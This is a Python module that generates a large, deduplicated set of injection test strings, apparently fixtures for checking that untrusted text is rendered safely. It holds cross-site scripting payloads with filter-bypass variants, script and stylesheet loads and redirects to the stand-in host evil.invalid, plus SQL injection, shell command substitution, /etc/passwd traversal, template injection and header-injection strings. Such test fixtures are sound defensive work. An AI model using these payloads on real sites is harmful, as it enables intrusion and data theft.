"""Text that wants to be more than text. Knows payloads, each different from all others; not where they are shown."""

from __future__ import annotations

from collections.abc import Iterator

RUN = "window.__ran=(window.__ran||0)+1"
EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpointerenter",
    "onpageshow",
)
TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "details",
    "input",
    "marquee",
    "iframe",
    "object",
    "embed",
    "style",
    "link",
    "a",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "\x01javascript:",
    "data:text/html,",
    "vbscript:",
    "blob:",
    "//evil.invalid/",
    "file:///",
)
CLOSERS = (
    "",
    '"',
    "'",
    "`",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</svg>",
    "</template>",
    "</button>",
    "*/",
)


def payloads() -> list[str]:
    """At least two hundred, none twice."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from (f"<{tag} src=x {event}={RUN}>" for tag in TAGS for event in EVENTS)
    yield from (f"{closer}><script>{RUN}</script>" for closer in CLOSERS)
    yield from (f'{closer} onfocus="{RUN}" autofocus x={closer}' for closer in CLOSERS[:4])
    yield from (f"<a href='{scheme}{RUN}'>x</a>" for scheme in SCHEMES)
    yield from (f"<form action='{scheme}{RUN}'><button>x" for scheme in SCHEMES)
    yield from _markup()
    yield from _other_languages()
    yield from _text()


def _markup() -> Iterator[str]:
    yield f"<script>{RUN}</script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<ScRiPt\x0c>{RUN}</sCrIpT >"
    yield f"<script\x00>{RUN}</script>"
    yield "<script src=//evil.invalid/x.js></script>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>"
    yield f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    yield f"<template shadowrootmode=open><script>{RUN}</script></template>"
    yield f"<iframe srcdoc='<script>parent.__ran=1</script>{RUN}'>"
    yield "<meta http-equiv=refresh content='0;url=//evil.invalid'>"
    yield "<base href=//evil.invalid/>"
    yield "<style>*{display:none}</style>"
    yield "<link rel=stylesheet href=//evil.invalid/x.css>"
    yield "<!--<img src='--><img src=x onerror=1>'>"
    yield "<x-own-element></x-own-element><dialog open>x</dialog>"
    yield "&lt;script&gt;1&lt;/script&gt;&#60;img src=x&#62;"
    yield "<plaintext>"
    yield "<textarea autofocus>"
    yield "<button popovertarget=start>x</button>"


def _other_languages() -> Iterator[str]:
    yield from (
        "{{constructor.constructor('window.__ran=1')()}}",
        "${window.__ran=1}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% debug %}",
        "[[${7*7}]]",
    )
    yield from (
        "'; DROP TABLE answer; --",
        "' OR '1'='1",
        "$(touch x)",
        "`id`",
        "| cat",
        "../../../etc/passwd",
        "%s%n%x",
        "%3Cscript%3E",
    )
    yield from (
        "expression(window.__ran=1)",
        "url(javascript:1)",
        "}*{color:red}",
        "--p:1;background:red",
        "@import '//evil.invalid'",
    )
    yield from (
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "hasOwnProperty",
        "undefined",
        "null",
        "NaN",
        "true",
        "0",
        "-1",
        "[object Object]",
    )
    yield from (
        "\nevent: ended\ndata: {}\n\n",
        "data: x\r\n\r\n",
        "Set-Cookie: a=b\r\n\r\nx",
        '{"question": 1}',
        "\x1b[31mred",
        "\x07\x08\x0c",
    )


def _text() -> Iterator[str]:
    yield from (
        "\u202edesrever",
        "\u2066isolate",
        "\u200b\u200c\u200d\ufeff",
        "a\u0300" * 60,
        "\ufffd\ufffe\uffff",
        "\u2028\u2029line",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    )
    yield from (
        "x" * 5000,
        "wide " * 900,
        "\n" * 200,
        "\t" * 200,
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>\u0645</b>",
        "\u4e2d\u6587<i>",
        "\u0000x\u0000",
        "\\u003cscript\\u003e",
    )
